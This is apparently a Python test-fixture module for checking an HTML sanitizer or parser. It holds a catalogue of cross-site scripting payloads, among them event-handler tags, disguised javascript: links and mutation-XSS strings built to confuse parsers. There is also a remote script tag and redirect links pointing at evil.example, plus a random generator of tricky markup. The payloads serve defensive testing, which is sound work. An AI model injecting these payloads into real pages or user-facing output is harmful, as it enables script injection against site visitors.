"""Strings of our own for the browser: attacks that run, and markup that is read in odd ways."""

from __future__ import annotations

import random
from typing import Final

RUN: Final = "alert(1)"

ATTACKS: Final = {
    "animation": f"<svg><animate attributeName=x dur=1s onbegin={RUN} /></svg>",
    "click": f"<b onclick={RUN}>a</b>",
    "details": f"<details open ontoggle={RUN}>a</details>",
    "encoded": "<img src=x onerror=&#97;lert&lpar;1&rpar;>",
    "end of attribute": f"<i title='\"><img src=x onerror={RUN}>'></i><img src=x onerror={RUN}>",
    "focus": f"<b tabindex=1 onfocus={RUN}>a</b>",
    "form": f"<form action=javascript:{RUN}><button>a</button></form>",
    "frame": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "frame of script": f"<iframe src=javascript:{RUN}></iframe>",
    "image": f"<img src=x onerror={RUN}>",
    "image of the past": f"<image src=x onerror={RUN}>",
    "input": f"<input autofocus onfocus={RUN}>",
    "link": f"<a href=javascript:{RUN}>a</a>",
    "link with a break": f"<a href='java&#10;script:{RUN}'>a</a>",
    "link with a control character": f"<a href='&#1;javascript:{RUN}'>a</a>",
    "link with capitals": f"<a href=JaVaScRiPt&colon;{RUN}>a</a>",
    "map": f"<map><area href=javascript:{RUN}></map>",
    "math": f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    "media": f"<video><source onerror={RUN}></video>",
    "nested quotes": f'<a title="a" onmouseover="{RUN}">a</a>',
    "picture": f"<picture><source srcset=x><img onerror={RUN} src=x></picture>",
    "sign": f"<svg onload={RUN}></svg>",
    "slashes": f"<img/src='x'/onerror='{RUN}'>",
    "svg in svg": f"<svg><svg onload={RUN}></svg></svg>",
    "svg link": f"<svg><a href=javascript:{RUN}><text y=9>a</text></a></svg>",
    "tag of our own": f"<x onclick={RUN}>a</x>",
}
"""Markup that runs script wherever it is shown, at once or when a reader touches it."""

PAGE_ATTACKS: Final = {
    "body": f"<body onpageshow={RUN}>",
    "remote script": "<script src=https://evil.example/run.js></script>",
    "script": f"<script>{RUN}</script>",
    "script in svg": f"<svg><script>{RUN}</script></svg>",
    "module": f"<script type=module>{RUN}</script>",
    "unclosed": f"<img src=x onerror={RUN} //",
}
"""Markup that runs script in a document, and not through ``innerHTML``."""

ODDITIES: Final = (
    "",
    "Tom & Jerry < 3",
    "a\r\nb\rc",
    "<p>a<p>b<b>c</p>d</b>",
    "<a href=/x>a<a href=/y>b</a></a>",
    "<table><a>b<tr><td>c</table>d",
    "<p><button><p>a",
    "<pre>\n\na</pre><pre>\r\nb</pre>",
    "<ul><ul><li>a</ul></ul><li>b",
    "<h1><h2>a</h1></h2>",
    "<b><p>a</b>b</p><i><b>c</i>d</b>",
    "<title><p>a</title><textarea><p>b</textarea><xmp><p>c</xmp>",
    "<plaintext><p>a",
    "<template><p>a</template>",
    "<select><p>a<option>b</select>c",
    "<!--><p>a--><p>b<!--x--!><p>c",
    "<![CDATA[<p>a]]><?p a?><!p a>",
    "<p title='</p>'>a</p><p title=\"<p\">b",
    "&lt;p&gt;a&amp;lt;b&nbsp;c&#13;d&#0;e",
    "<p>a\0b</p><p\0>c",
    *(
        f"<{outer}><{inner}>a<{outer}>b</{inner}><p>c"
        for outer in ("p", "a", "li", "table", "td")
        for inner in ("form", "svg", "math", "noscript", "style", "template", "select", "option")
    ),
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror={RUN}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg><desc><table><style><img title='</style><img src onerror={RUN}>'></table></desc></svg>",
    f"<math><annotation-xml encoding=text/html><p><style><img src onerror={RUN}></style></math>",
    f"<a href='https://a.example/\"><img src=x onerror={RUN}>'>a</a>",
    f"<img alt='`><img src=x onerror={RUN}>`' src=/a.gif>",
    f"<a title=\"' onclick={RUN} '\" href=/a>a</a>",
    "<a href=//evil.example>a</a><a href='\\\\evil.example'>b</a><a href='/\t/evil.example'>c</a>",
    "<a href=https:evil.example>a</a><a href=vbscript:x>b</a><a href=data:text/html,x>c</a>",
    "<base href=https://evil.example/><a href=x>a</a><meta http-equiv=refresh content='0;url=/x'>",
)
"""Markup that parsers repair, read in another mode, or could read in two ways; and plain text."""

_ELEMENTS: Final = (
    *("a", "annotation-xml", "b", "blockquote", "body", "br", "button", "caption", "code", "col"),
    *("colgroup", "dd", "desc", "details", "div", "dl", "em", "figure", "font", "foreignObject"),
    *("form", "frameset", "h1", "head", "html", "i", "iframe", "image", "img", "input", "li"),
    *("malignmark", "marquee", "math", "mglyph", "mi", "mtext", "nobr", "noembed", "noframes"),
    *("noscript", "object", "option", "p", "plaintext", "pre", "q", "script", "select", "span"),
    *("style", "summary", "svg", "table", "tbody", "td", "template", "textarea", "title", "tr"),
    *("u", "ul", "xmp"),
)
_ATTRIBUTES: Final = (
    *("", "", "", " href=/x", " id=a", " cite=x", " width=5", " start=3", " colspan=2"),
    *(' href="//evil.example"', ' href="/\\evil.example"', ' encoding="text/html"', " alt=`"),
    *(f" onclick={RUN}", f" src=x onerror={RUN}", f' href="javascript:{RUN}"'),
    f' title="</style></textarea><img src=x onerror={RUN}>"',
    f' title="--&gt;<img src=x onerror={RUN}>"',
    f""" title='"><img src=x onerror={RUN}>'""",
)
_TEXTS: Final = (
    *("a", "\n\n", "\r\n", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<?x", "<", "</", "<!"),
    *("&#13;", "&#0;", "\0", "&amp", "\xa0", f"&lt;img src=x onerror={RUN}&gt;", ATTACKS["image"]),
)


def draw_markup(source: random.Random) -> str:
    """Draw markup in no good order, from what parsers have special rules for."""
    parts = []
    for _ in range(source.randint(2, 14)):
        kind = source.random()
        if kind < 0.5:
            parts.append(f"<{source.choice(_ELEMENTS)}{source.choice(_ATTRIBUTES)}>")
        elif kind < 0.75:
            parts.append(f"</{source.choice(_ELEMENTS)}>")
        else:
            parts.append(source.choice(_TEXTS))
    return "".join(parts)
